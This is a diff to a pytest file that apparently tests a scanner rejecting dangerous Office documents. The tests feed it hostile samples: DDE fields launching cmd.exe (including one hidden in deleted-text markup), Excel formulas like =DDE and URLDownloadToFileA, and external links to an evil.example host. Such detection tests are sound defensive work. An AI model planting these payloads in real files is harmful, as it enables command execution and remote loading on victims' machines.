@@ -1,5 +1,8 @@
 """Office files that act, carry or load: refused for what they do, whatever their parts are called."""
 
+import io
+import zipfile
+
 import pytest
 
 from compliance.domain.errors import InvalidError
@@ -49,6 +52,7 @@ DOCUMENTS = {
     "DDE in numeric entities": ("file_field", with_body(field(run("&#68;DEAUTO c:\\cmd.exe")))),
     "DDE in hexadecimal entities": ("file_field", with_body(field(run("&#x44;&#x44;E c:\\cmd.exe")))),
     "DDE in UTF-16": ("file_field", with_body(field(run("DDEAUTO c:\\cmd.exe")), "utf-16")),
+    "DDE in what was deleted": ("file_field", with_body(field("<w:r><w:delInstrText>DDE cmd x</w:delInstrText></w:r>"))),
     "DDE in small letters": ("file_field", with_body(field(run(' ddeauto "c:\\cmd.exe"')))),
     "DDE in quotes": ("file_field", with_body(field(run('"DDEAUTO" c:\\cmd.exe')))),
     "DDE in a simple field": ("file_field", with_body('<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>')),
@@ -140,6 +144,11 @@ FORMULAS = {
     '=CALL("urlmon","URLDownloadToFileA")': "file_remote",
     '=RTD("evil.server",,"x")': "file_remote",
     "=EXEC(\"calc\")": "file_remote",
+    '=DDE("cmd","/c calc","x")': "file_field",
+    "='http://evil.example/[x.xlsx]S'!A1": "file_remote",
+    "='\\\\evil.example\\s\\[x.xlsx]S'!A1": "file_remote",
+    "=SUM([x.xlsx]S!A1:A9)": "file_remote",
+    '=_xlfn.STOCKHISTORY("x")': "file_remote",
 }  # fmt: skip
 
 
@@ -202,3 +211,12 @@ def test_zeros_behind_the_zip_are_padding_and_words_are_not() -> None:
     assert look(document() + b"\0" * 500).endswith("document")
     assert reason(document() + b"%PDF-1.7") == "file_two_faced"
     assert reason(b"PK\x03\x04junk" + document()) == "file_two_faced"
+
+
+@pytest.mark.parametrize("packing", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
+def test_a_package_that_no_office_program_opens(packing: int) -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", packing) as archive:
+        for name, content in parts_of(document()).items():
+            archive.writestr(name, content)
+    assert reason(out.getvalue()) == "file_damaged"
